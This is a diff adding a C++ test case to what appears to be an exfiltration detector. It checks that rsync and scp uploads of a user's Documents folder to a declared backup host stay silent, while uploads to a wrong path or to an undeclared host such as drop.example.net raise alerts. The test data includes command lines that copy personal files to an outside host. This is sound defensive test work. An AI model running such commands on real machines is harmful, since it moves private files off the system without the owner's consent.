@@ -93,6 +93,55 @@ TEST_CASE(
     }
 }
 
+TEST_CASE("own storage: rsync and scp over ssh to the declared host are silent; elsewhere they alert")
+{
+    auto rules = [] {
+        auto loaded = load_rules(std::string(builtin_rules_yaml) + R"(
+own_storage:
+  destinations:
+    - {domain: backup.corp.example, path: /srv/backup/, tools: [rsync, scp]}
+)",
+                                 "own.yaml");
+        if (auto* e = std::get_if<RulesError>(&loaded)) throw std::runtime_error(e->to_string());
+        auto r = std::get<Rules>(std::move(loaded));
+        r.settings.alert_threshold = 30;  // the undeclared uploads alert, whatever else their score holds
+        return r;
+    };
+    struct Case {
+        std::vector<std::string> args;
+        const char* host;
+        bool declared;
+    };
+    const std::string docs = home + "/Documents/";
+    for (const auto& c : std::vector<Case>{
+             {{"rsync", "-a", "-e", "ssh -i " + home + "/.ssh/id_deploy", docs,
+               "root@backup.corp.example:/srv/backup/h1/"},
+              "backup.corp.example",
+              true},
+             {{"scp", "-r", docs, "backup.corp.example:/srv/backup/h1/"}, "backup.corp.example", true},
+             {{"rsync", "-a", docs, "root@backup.corp.example:/tmp/x/"}, "backup.corp.example", false},
+             {{"rsync", "-a", docs, "root@drop.example.net:/srv/backup/h1/"}, "drop.example.net", false},
+         }) {
+        CAPTURE(c.args.front());
+        CAPTURE(c.args.back());
+        Timeline tl(rules());
+        auto tool = tl.spawn(tl.shell, c.args);
+        tl.read(tool, docs + "q3-report.pdf", 120'000);
+        tl.read(tool, docs + "plan.odt", 40'000);
+        // The ssh the tool runs carries the bytes: its own command line names only the host.
+        auto ssh = tl.spawn(tool, {"ssh", "-l", "root", c.host, "rsync", "--server", "-logDtpre.iLsfxCIvu", "."});
+        tl.object_io(tool, ObjectKind::pipe, 991, IoDirection::write, 160'000);
+        tl.object_io(ssh, ObjectKind::pipe, 991, IoDirection::read, 160'000);
+        tl.transfer(ssh, c.host, 165'000, 4'200);
+        if (c.declared) {
+            CHECK(tl.alerts.empty());
+        } else {
+            REQUIRE_FALSE(tl.alerts.empty());
+            CHECK_FALSE(has_signal(tl.alerts.front(), "own-storage"));
+        }
+    }
+}
+
 TEST_CASE("ssh -i KEY / scp -i KEY authenticate with the key: use, not data; scp of the key itself alerts")
 {
     {
